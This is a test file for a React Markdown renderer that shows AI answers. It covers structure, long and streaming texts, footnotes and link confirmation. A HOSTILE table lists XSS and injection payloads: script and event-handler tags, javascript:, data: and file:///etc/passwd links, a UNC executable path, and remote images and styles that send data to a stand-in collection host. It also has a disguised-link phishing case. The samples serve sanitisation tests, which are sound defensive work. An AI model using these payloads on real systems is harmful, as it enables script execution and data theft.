import { screen, waitFor } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { Profiler } from 'react';
import { describe, expect, it, vi } from 'vitest';
import { createFakeIpc } from '../testing/fake-ipc.ts';
import { renderInWindow } from '../testing/render-in-window.tsx';
import { Markdown } from './markdown.tsx';
import { MarkdownBlock } from './markdown-block.tsx';
import { RenderedMarkdown } from './rendered-markdown.tsx';

const html = (text: string) => renderInWindow(<Markdown text={text} />).container;

describe('what an answer says', () => {
  it('is shown with its structure', () => {
    const container = html('# Head\n\n**bold** and `code`\n\n- [x] done\n\n| a | b |\n| - | - |\n| 1 | 2 |\n');
    expect(screen.getByRole('heading', { name: 'Head', level: 3 })).toBeVisible();
    expect(container.querySelector('strong')).toHaveTextContent('bold');
    expect(screen.getByRole('table')).toHaveTextContent('ab12');
    expect(screen.getByRole('checkbox')).toBeChecked();
  });

  it('keeps the characters a person copies', () => {
    expect(html('1 < 2 && 3 > 2')).toHaveTextContent('1 < 2 && 3 > 2');
  });

  it('finds link definitions in another block', () => {
    html('See [the guide][1].\n\n[1]: https://docs.example/guide\n');
    expect(screen.getByRole('link', { name: 'the guide' })).toHaveAttribute('href', 'https://docs.example/guide');
  });
});

describe('a long text without a line break', () => {
  const long = 'word '.repeat(4_000);

  it('stands in pieces, and says what it said', () => {
    const text = `A **bold** one: ${long}\nand \`${'x'.repeat(15_000)}\``;
    const container = html(text);
    expect(container.querySelectorAll('[data-piece]').length).toBeGreaterThanOrEqual(6);
    expect(container.querySelector('p')?.textContent).toBe(`A bold one: ${long}and ${'x'.repeat(15_000)}`);
    expect(container.querySelectorAll('code [data-piece]').length).toBeGreaterThanOrEqual(2);
  });

  it('is left alone in a link, whose words are compared with where it goes', () => {
    const container = html(`[bank.example ${long}](https://evil.example/)`);
    expect(container.querySelector('[data-piece]')).toBeNull();
    expect(container).toHaveTextContent('evil.example');
  });
});

describe('a text as long as a book', () => {
  const paragraphs = Array.from({ length: 300 }, (_, number) => `Paragraph ${number}. ${'word '.repeat(40)}`.trim());
  const shown = (container: HTMLElement) =>
    [...container.querySelectorAll('p')].map(({ textContent }) => textContent?.split('.')[0]);

  it('shows its beginning and its end at once, and what stands between by and by', async () => {
    const container = html(paragraphs.join('\n\n'));
    expect(container.querySelectorAll('p').length).toBeLessThan(100);
    expect(shown(container)[0]).toBe('Paragraph 0');
    expect(shown(container).at(-1)).toBe('Paragraph 299');
    expect(container.querySelector('[data-partial]')).not.toBeNull();
    await waitFor(() => expect(container.querySelector('[data-partial]')).toBeNull());
    expect(shown(container)).toEqual(paragraphs.map((_, number) => `Paragraph ${number}`));
  });

  it('goes on at its end while its middle is still to come', async () => {
    const { container, rerender } = renderInWindow(<Markdown text={paragraphs.join('\n\n')} isStreaming />);
    rerender(<Markdown text={`${paragraphs.join('\n\n')}\n\nThe newest.`} isStreaming />);
    expect(shown(container).at(-1)).toBe('The newest');
    await waitFor(() => expect(container.querySelectorAll('p')).toHaveLength(301));
  });

  it('is all there at once where it is not so long', () => {
    const container = html(paragraphs.slice(0, 60).join('\n\n'));
    expect(container.querySelectorAll('p')).toHaveLength(60);
    expect(container.querySelector('[data-partial]')).toBeNull();
  });
});

describe('a footnote of an answer', () => {
  it('stands where it was written, and what refers to it in another block is set high', () => {
    const container = html('Fees[^1] fall[^a].\n\n[^1]: Since **January**.\n\n    And more.\n\n[^a]: So they say.\n');
    expect([...container.querySelectorAll('p sup')].map((element) => element.textContent)).toEqual(['1', 'a']);
    expect(container).toHaveTextContent('Fees1 falla.1Since January.And more.aSo they say.');
    expect(container.querySelector('[data-note="1"] strong')).toHaveTextContent('January');
    expect(container.querySelectorAll('[id]')).toHaveLength(0);
  });

  it('in the block that refers to it is there once, and one that nothing refers to is there too', () => {
    const container = html('Fees[^1].\n[^1]: Since January.\n\n[^2]: Left over.\n');
    expect(container.textContent?.match(/Since January/g)).toHaveLength(1);
    expect(container).toHaveTextContent('Left over.');
  });

  it('that is not there leaves its mark as it was written', () => {
    expect(html('Any of [^abc] and `[^1]`.\n\n[^1]: One.\n')).toHaveTextContent('Any of [^abc] and [^1].1One.');
  });
});

/** One of each kind that hostile answers come in; the full list is for the end-to-end run. */
const HOSTILE: Record<string, string> = {
  'script element': '<script>window.__pwned = 1</script>',
  'event handler': '<img src=x onerror="window.__pwned = 1">',
  'frame over the window': '<iframe src="https://collect.example"></iframe><div style="position:fixed">x</div>',
  'form field': '<input autofocus onfocus="x()">',
  'dialog over the window': '<dialog open>Update required</dialog>',
  'svg animation': '<svg><animate onbegin="x()"></svg>',
  refresh: '<meta http-equiv="refresh" content="0;url=https://collect.example/">',
  'style sheet': '<style>*{background:url(https://collect.example/)}</style>',
  'javascript link': '[x](javascript:alert(1))',
  'javascript link in disguise': '[x](&#x6A;avascript:alert(1))',
  'javascript autolink': '<javascript:alert(1)>',
  'javascript reference': '[x][1]\n\n[1]: javascript:alert(1)\n',
  'data link': '[x](data:text/html,<script>alert(1)</script>)',
  'file link': '[x](file:///etc/passwd)',
  'unc link': '[open](\\\\\\\\server\\\\share\\\\tool.exe)',
  'custom scheme': '[doc](ms-word:ofe|u|https://collect.example/a.docx)',
  'javascript image': '![x](javascript:alert(1))',
  'remote image': '![x](https://collect.example/p.png?q=secret)',
  'remote image behind a user name': '![x](https://example.com@collect.example/p)',
  'image in a link': '[![pic](data:image/gif;base64,R0lGOD)](javascript:alert(1))',
  'half a tag': 'text <img src=x one',
  'html in a table': '| <img src=x onerror=x()> |\n| - |\n| <b onclick=x()>y</b> |\n',
};

describe('a hostile answer', () => {
  it.each(Object.entries(HOSTILE))('with %s loads nothing and runs nothing', (_, text) => {
    const container = html(text);
    expect(
      container.querySelectorAll(
        'img, script, iframe, style, meta, dialog, svg:not([class*="lucide"]), form, object, video, audio',
      ),
    ).toHaveLength(0);
    for (const element of container.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on/);
        expect(`${name}=${value}`).not.toMatch(/(href|src|srcset|action|poster)=(?!https?:\/\/|mailto:)/);
      }
      if (element.tagName !== 'A') expect(element.getAttribute('style') ?? '').not.toMatch(/url\(|fixed/);
    }
    expect('__pwned' in window).toBe(false);
  });

  it('shows raw HTML as the text it is', () => {
    expect(html('a <b onclick="x()">bold</b> word')).toHaveTextContent('a <b onclick="x()">bold</b> word');
  });

  it.each([
    ['nested quotes', `${'> '.repeat(3_000)}x`],
    ['nested lists', Array.from({ length: 1_000 }, (_, level) => `${'  '.repeat(level)}- x`).join('\n')],
    ['brackets', '!['.repeat(20_000)],
    ['asterisks', '*'.repeat(20_000)],
  ])('of %s without end is shown as plain text', (_, text) => {
    expect(html(text).textContent).toContain(text.slice(-10));
  });

  it('cannot turn the reading direction around', () => {
    expect(html('Text before \u202e override')).toHaveTextContent('Text before ⟦U+202E⟧ override');
  });
});

describe('a link of an answer', () => {
  const open = (text: string) => {
    const ipc = createFakeIpc({ 'app.open-external': () => ({}) });
    renderInWindow(<Markdown text={text} />, { ipc });
    return ipc;
  };

  it('opens in the browser and says its host before', async () => {
    const ipc = open('[the page](https://docs.example/a?b=1)');
    const link = screen.getByRole('link', { name: 'the page' });
    expect(link).toHaveAttribute('title', 'Opens docs.example in the browser');
    await userEvent.click(link);
    expect(ipc.callsOf('app.open-external')).toEqual([{ url: 'https://docs.example/a?b=1' }]);
  });

  it('that names another host shows the true one and asks first', async () => {
    const ipc = open('[bank.example](https://evil.example/login)');
    expect(screen.getByText('(evil.example)')).toBeVisible();
    await userEvent.click(screen.getByRole('link'));
    expect(ipc.callsOf('app.open-external')).toEqual([]);
    expect(screen.getByRole('dialog', { name: 'Open evil.example?' })).toHaveTextContent('https://evil.example/login');
    await userEvent.click(screen.getByRole('button', { name: 'Open in browser' }));
    expect(ipc.callsOf('app.open-external')).toEqual([{ url: 'https://evil.example/login' }]);
  });

  it('to an image is a button with its host, and only a click goes there', async () => {
    const ipc = open('![A chart](https://pictures.example/chart.png)');
    await userEvent.click(screen.getByRole('button', { name: /A chart/ }));
    expect(ipc.callsOf('app.open-external')).toEqual([{ url: 'https://pictures.example/chart.png' }]);
  });
});

describe('an answer that streams', () => {
  it('renders only its last block again', () => {
    const rendered: string[] = [];
    const block = vi.spyOn(MarkdownBlock as unknown as { type: (props: { text: string }) => unknown }, 'type');
    block.mockImplementation(({ text }) => {
      rendered.push(text);
      return text;
    });
    const { rerender } = renderInWindow(<Markdown text={'One.\n\nTwo.\n\nTh'} isStreaming />);
    rendered.length = 0;
    for (const end of ['Thr', 'Thre', 'Three', 'Three.']) {
      rerender(<Markdown text={`One.\n\nTwo.\n\n${end}`} isStreaming />);
    }
    expect(rendered).toEqual(['Thr', 'Thre', 'Three', 'Three.']);
    block.mockRestore();
  });

  it.each([
    ['table', (rows: number) => `| a | b |\n| - | - |\n${'| 1 | 2 |\n'.repeat(rows)}`, 'tr', 1],
    ['list', (items: number) => '1. item\n'.repeat(items), 'li', 0],
  ])('renders only the end of a long %s again', (_, textOf, element, heads) => {
    const rendered = vi.spyOn(RenderedMarkdown as unknown as { type: (props: { text: string }) => unknown }, 'type');
    const { container, rerender } = renderInWindow(<Markdown text={textOf(3_001)} isStreaming />);
    expect(container.querySelectorAll(element)).toHaveLength(3_001 + heads);
    expect(container.querySelectorAll('table, ol')).toHaveLength(1);
    rendered.mockClear();
    for (let more = 1; more <= 10; more += 1) rerender(<Markdown text={textOf(3_001 + more)} isStreaming />);
    expect(rendered).toHaveBeenCalledTimes(10);
    for (const [{ text }] of rendered.mock.calls) expect(text.length).toBeLessThan(1_000);
    expect(container.querySelectorAll(element)).toHaveLength(3_011 + heads);
    rendered.mockRestore();
  });

  it('colours code only after its fence has closed', async () => {
    const code = '```ts\nconst a = 1;\n';
    const { container, rerender } = renderInWindow(<Markdown text={code} isStreaming />);
    expect(container.querySelector('pre')).toHaveTextContent('const a = 1;');
    expect(container.querySelector('[data-token]')).toBeNull();
    rerender(<Markdown text={`${code}\`\`\`\n\nDone.`} isStreaming />);
    await waitFor(() => expect(container.querySelector('[data-token="keyword"]')).toHaveTextContent('const'));
  });

  it('commits once for each chunk', () => {
    const onRender = vi.fn();
    const { rerender } = renderInWindow(
      <Profiler id="answer" onRender={onRender}>
        <Markdown text="a" isStreaming />
      </Profiler>,
    );
    onRender.mockClear();
    rerender(
      <Profiler id="answer" onRender={onRender}>
        <Markdown text="a b" isStreaming />
      </Profiler>,
    );
    expect(onRender).toHaveBeenCalledTimes(1);
  });
});
